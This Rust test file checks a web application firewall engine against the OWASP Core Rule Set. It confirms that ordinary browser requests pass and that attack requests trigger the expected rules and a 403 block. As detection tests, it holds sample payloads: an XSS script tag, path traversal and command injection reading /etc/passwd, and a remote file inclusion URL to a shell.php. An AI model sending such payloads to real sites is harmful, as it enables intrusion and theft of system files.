//! The Core Rule Set, when it is there.

use std::path::PathBuf;

use super::*;
use crate::seclang::source::FileLoader;

/// `../shared/crs`, or where `PORTCULLIS_SHARED` points.
fn folder() -> Option<PathBuf> {
    let shared = std::env::var_os("PORTCULLIS_SHARED").map_or_else(|| PathBuf::from("../shared"), PathBuf::from);
    let shared = if shared.is_absolute() { shared } else { Path::new(env!("CARGO_MANIFEST_DIR")).join(shared) };
    let folder = shared.join("crs");
    if folder.is_dir() {
        return Some(folder);
    }
    eprintln!("SKIPPED: no Core Rule Set at {}", folder.display());
    None
}

fn core_rule_set(settings: &str) -> Option<Program> {
    let folder = folder()?;
    let text = format!("Include crs-setup.conf.example\nInclude test-setup.conf\n{settings}\nInclude rules/*.conf\n");
    let root = folder.join("root.conf");
    let (ruleset, problems) = parse(&Source::new(root, text), &FileLoader);
    assert!(problems.is_empty(), "{problems}");
    let (program, warnings) = Program::compile(&ruleset, &FileLoader, &EngineOptions::default())
        .unwrap_or_else(|problems| panic!("{problems}"));
    assert!(warnings.is_empty(), "{warnings}");
    Some(program)
}

/// Behind the test setup, which asks for paranoia 4.
const PARANOIA_1: &str = "SecAction \"id:900998,phase:1,nolog,pass,setvar:tx.blocking_paranoia_level=1\"";

fn browser(exchange: Exchange) -> Exchange {
    exchange
        .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
        .header("Accept", "text/html,application/xhtml+xml,*/*;q=0.8")
        .header("Accept-Language", "en")
        .header("Accept-Encoding", "gzip, deflate, br")
        .header("Connection", "keep-alive")
}

#[test]
fn attacks_are_found_and_ordinary_requests_are_not() {
    let Some(program) = core_rule_set(PARANOIA_1) else { return };
    assert!(program.rule_count() > 690, "{}", program.rule_count());
    let clean = [
        browser(Exchange::get("/")),
        browser(Exchange::get("/search?q=winter+shoes&page=2")),
        browser(Exchange::form("name=Jane+Doe&city=Paris")),
        browser(Exchange::get("/index.html")).header("Cookie", "session=abcdef0123456789; theme=dark"),
    ];
    for exchange in clean {
        let outcome = exchange.run(&program);
        assert_eq!(outcome.ids(), [0; 0], "{exchange:?}: {:?}", outcome.lines());
    }
    let attacks: [(Exchange, &[u32]); 6] = [
        (browser(Exchange::get("/?x=<script>alert(1)</script>")), &[941110, 941160]),
        (browser(Exchange::get("/?file=../../../../etc/passwd")), &[930100, 930110, 930120, 932160]),
        (browser(Exchange::form("cmd=;cat+/etc/passwd")), &[930120, 932160]),
        (browser(Exchange::get("/?page=http://203.0.113.9/shell.php?")), &[931100]),
        (Exchange { method: "FOO", ..browser(Exchange::get("/")) }, &[911100]),
        (Exchange::get("/").header("User-Agent", "sqlmap/1.0").header("Accept", "*/*"), &[913100]),
    ];
    for (exchange, expected) in attacks {
        let outcome = exchange.run(&program);
        let ids = outcome.ids();
        let missing: Vec<_> = expected.iter().filter(|id| !ids.contains(id)).collect();
        assert!(missing.is_empty(), "{exchange:?}: {missing:?} missing in {ids:?}");
        assert!(ids.contains(&949110), "{exchange:?}: {ids:?}");
        assert_eq!(outcome.denied, None);
        assert!(outcome.summary.inbound_score.is_some_and(|score| score >= 5));
    }
}

#[test]
fn prevention_blocks() {
    let settings = format!("SecRuleEngine On\nSecRuleRemoveById 900005\n{PARANOIA_1}");
    let Some(program) = core_rule_set(&settings) else { return };
    let attack = browser(Exchange::get("/?x=<script>alert(1)</script>"));
    let outcome = attack.run(&program);
    assert_eq!(outcome.ids().last(), Some(&980170));
    assert_eq!(outcome.status(), Some(403));
    assert_eq!(outcome.denied.unwrap().rule_id, RuleId(949110));
    assert_eq!(browser(Exchange::get("/")).run(&program).status(), None);
}

#[test]
fn compiling_is_quick() {
    if core_rule_set("").is_none() {
        return;
    }
    let before = std::time::SystemTime::now();
    assert!(core_rule_set("").is_some());
    eprintln!("parsed and compiled in {:?}", before.elapsed().unwrap_or_default());
}
